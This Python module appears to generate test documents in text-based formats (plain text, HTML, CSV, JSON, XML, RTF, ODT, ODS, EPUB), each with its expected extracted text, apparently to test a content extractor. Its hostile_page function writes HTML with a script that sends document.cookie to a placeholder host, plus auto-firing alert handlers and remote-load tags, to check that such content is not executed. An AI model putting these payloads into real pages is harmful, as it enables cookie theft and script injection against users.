"""Formats that are text at heart: plain text in many encodings, HTML, tables, RTF, OpenDocument, EPUB."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from html import escape

from leak_maker.fixed import zip_of
from leak_maker.papers import Paper
from leak_maker.truth import CellTruth, Document, Made, Passage, SheetTruth

OPEN = "application/vnd.oasis.opendocument"
OPEN_SPACES = " ".join(
    f'xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
    for prefix, name in (("office", "office"), ("text", "text"), ("table", "table"), ("style", "style"))
)


def text(paper: Paper, encoding: str = "utf-8", *, before: bytes = b"", line_end: str = "\n") -> Made:
    """A text file; *before* is a byte order mark where one is wanted."""
    data = before + (line_end.join(paper.lines) + line_end).encode(encoding)
    return Made(data, Document("text", ["text/plain"], passages=[Passage(list(paper.lines), lang=paper.lang)]))


def markdown(paper: Paper) -> Made:
    data = f"# {paper.title}\n\n" + "".join(f"- {line}\n" for line in paper.body)
    return Made(
        data.encode(),
        Document("markdown", ["text/markdown", "text/plain"], passages=[Passage(list(paper.lines), lang=paper.lang)]),
    )


def web_page(paper: Paper, encoding: str, *, declared: str) -> Made:
    """A page that declares its charset."""
    body = "".join(f"<p>{escape(line)}</p>\n" for line in paper.body)
    page = (
        f'<html><head><meta http-equiv="Content-Type" content="text/html; charset={declared}">'
        f"<title>{escape(paper.title)}</title></head>\n<body><h1>{escape(paper.title)}</h1>\n{body}</body></html>\n"
    )
    truth = Document("html", ["text/html"], title=paper.title, passages=[Passage(list(paper.lines), lang=paper.lang)])
    return Made(page.encode(encoding), truth)


def hostile_page(paper: Paper) -> Made:
    """A page that tries to call home and to run; only its words may be seen."""
    body = "".join(f"<p>{escape(line)}</p>\n" for line in paper.body)
    home = "http://collector.invalid"
    page = f"""<!DOCTYPE html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="1; url={home}/refresh">
<link rel="stylesheet" href="{home}/style.css"><link rel="preload" as="font" href="{home}/font.woff2">
<base href="{home}/"><title>{escape(paper.title)}</title>
<style>@import url({home}/import.css); body {{ background: url({home}/background.png) }}</style>
<script>var marker = "scriptonlymarker"; new Image().src = "{home}/script?" + document.cookie;</script></head>
<body onload="fetch('{home}/onload')"><h1>{escape(paper.title)}</h1>
<img src="{home}/pixel.gif" onerror="alert(1)"><iframe src="{home}/frame.html"></iframe>
<object data="{home}/object.swf"></object><video src="{home}/video.mp4" autoplay></video>
<svg onload="alert(2)"><image href="{home}/picture.svg"/></svg>
<form action="{home}/form"><input autofocus onfocus="alert(3)"></form>
{body}<p>&lt;script&gt;alert("written as text")&lt;/script&gt;</p>
<a href="javascript:alert(4)">{escape("<b>link</b>")}</a></body></html>
"""
    lines = [*paper.lines, '<script>alert("written as text")</script>', "<b>link</b>"]
    truth = Document("html", ["text/html"], title=paper.title, passages=[Passage(lines, lang=paper.lang)])
    truth.absent = ["scriptonlymarker", "background.png"]
    return Made(page.encode(), truth)


def table(rows: Sequence[Sequence[str]], encoding: str = "utf-8-sig", delimiter: str = ",") -> Made:
    """A CSV file as Excel writes it."""
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    kind = "text/csv" if delimiter == "," else "text/tab-separated-values"
    truth = Document("csv", [kind, "text/plain"], passages=[Passage([value]) for value in rows[0]])
    truth.passages.append(Passage([value for row in rows for value in row if value]))
    return Made(out.getvalue().encode(encoding), truth)


def structured(paper: Paper, number: int) -> Made:
    """A JSON record."""
    data = json.dumps({"number": number, "title": paper.title, "lines": paper.body}, ensure_ascii=False, indent=2)
    return Made(
        data.encode(),
        Document("json", ["application/json", "text/plain"], passages=[Passage(list(paper.lines), lang=paper.lang)]),
    )


def marked_up(paper: Paper) -> Made:
    """An XML record with text in elements and in an attribute."""
    rows = "".join(f'  <line number="{number}">{escape(line)}</line>\n' for number, line in enumerate(paper.body, 1))
    head = f'<?xml version="1.0" encoding="UTF-8"?>\n<record lang="{paper.lang}">\n'
    data = f"{head}  <title>{escape(paper.title)}</title>\n{rows}</record>\n"
    return Made(
        data.encode(),
        Document("xml", ["application/xml", "text/xml"], passages=[Passage(list(paper.lines), lang=paper.lang)]),
    )


def rich_text(paper: Paper) -> Made:
    """RTF in which every character outside ASCII is a signed 16-bit ``\\u`` with a fallback sign."""
    rows = []
    for line in paper.lines:
        units = line.encode("utf-16-le")
        values = [int.from_bytes(units[at : at + 2], "little") for at in range(0, len(units), 2)]
        rows.append(
            "".join(chr(v) if 32 <= v < 127 else f"\\u{v - 65536 if v > 32767 else v}?" for v in values) + "\\par\n"
        )
    data = "{\\rtf1\\ansi\\ansicpg936\\deff0{\\fonttbl{\\f0 SimSun;}}\n" + "".join(rows) + "}\n"
    return Made(
        data.encode("ascii"),
        Document("rtf", ["application/rtf", "text/rtf"], passages=[Passage(list(paper.lines), lang=paper.lang)]),
    )


def open_text(paper: Paper, author: str) -> Made:
    """An ODT file."""
    rows = f'<text:h text:outline-level="1">{escape(paper.title)}</text:h>'
    rows += "".join(f"<text:p>{escape(line)}</text:p>" for line in paper.body)
    content = (
        f'<office:document-content {OPEN_SPACES} office:version="1.2"><office:body><office:text>{rows}'
        "</office:text></office:body></office:document-content>"
    )
    truth = Document(
        "odt",
        [f"{OPEN}.text"],
        title=paper.title,
        author=author,
        passages=[Passage(list(paper.lines), lang=paper.lang)],
    )
    return Made(_open_package("text", content, paper.title, author), truth)


def open_sheet(name: str, rows: Sequence[Sequence[str | int]], hidden_row: int | None = None) -> Made:
    """An ODS file; *hidden_row* counts from 1."""
    cells: dict[str, CellTruth] = {}
    written = ""
    for number, row in enumerate(rows, 1):
        inner = ""
        for column, value in zip("ABCDEFGH", row, strict=False):
            kind = f'float" office:value="{value}' if isinstance(value, int) else "string"
            inner += (
                f'<table:table-cell office:value-type="{kind}"><text:p>{escape(str(value))}</text:p></table:table-cell>'
            )
            cells[f"{column}{number}"] = CellTruth(str(value), "number" if isinstance(value, int) else "text")
        visible = ' table:visibility="collapse"' if number == hidden_row else ""
        written += f"<table:table-row{visible}>{inner}</table:table-row>"
    content = (
        f'<office:document-content {OPEN_SPACES} office:version="1.2"><office:body><office:spreadsheet>'
        f'<table:table table:name="{name}">{written}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    truth = Document("ods", [f"{OPEN}.spreadsheet"], pages=1)
    truth.sheets = [SheetTruth(name, False, cells, [hidden_row] if hidden_row else [], [], [])]
    return Made(_open_package("spreadsheet", content, name, "李四"), truth)


def _open_package(kind: str, content: str, title: str, author: str) -> bytes:
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{OPEN}.{kind}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    meta = (
        f'<office:document-meta {OPEN_SPACES} xmlns:dc="http://purl.org/dc/elements/1.1/" office:version="1.2">'
        "<office:meta>"
        f"<dc:title>{escape(title)}</dc:title><dc:creator>{escape(author)}</dc:creator><dc:date>2017-05-11T10:00:00</dc:date>"
        "</office:meta></office:document-meta>"
    )
    entries = [
        ("mimetype", f"{OPEN}.{kind}"),
        ("content.xml", content),
        ("meta.xml", meta),
        ("META-INF/manifest.xml", manifest),
    ]
    return zip_of([(name, data.encode()) for name, data in entries], stored=["mimetype"])


def book(papers: Sequence[Paper], title: str, author: str) -> Made:
    """A small EPUB 3."""
    space = 'xmlns="http://www.w3.org/1999/xhtml"'
    entries = [("mimetype", "application/epub+zip")]
    container = (
        '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile '
        'full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
    )
    entries.append(("META-INF/container.xml", container))
    items = "".join(
        f'<item id="c{n}" href="c{n}.xhtml" media-type="application/xhtml+xml"/>' for n in range(len(papers))
    )
    spine = "".join(f'<itemref idref="c{n}"/>' for n in range(len(papers)))
    package = (
        '<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i"><metadata '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="i">urn:unburnt:example:1</dc:identifier>'
        f"<dc:title>{escape(title)}</dc:title><dc:creator>{escape(author)}</dc:creator><dc:language>ug</dc:language>"
        f"</metadata><manifest>{items}</manifest><spine>{spine}</spine></package>"
    )
    entries.append(("book.opf", package))
    for number, paper in enumerate(papers):
        rows = f"<h1>{escape(paper.title)}</h1>" + "".join(f"<p>{escape(line)}</p>" for line in paper.body)
        head = f"<head><title>{escape(paper.title)}</title></head>"
        entries.append((f"c{number}.xhtml", f"<html {space}>{head}<body>{rows}</body></html>"))
    truth = Document("epub", ["application/epub+zip"], title=title, author=author, pages=len(papers))
    truth.passages = [Passage(list(paper.lines), kind="section", lang=paper.lang) for paper in papers]
    return Made(zip_of([(name, data.encode()) for name, data in entries], stored=["mimetype"]), truth)
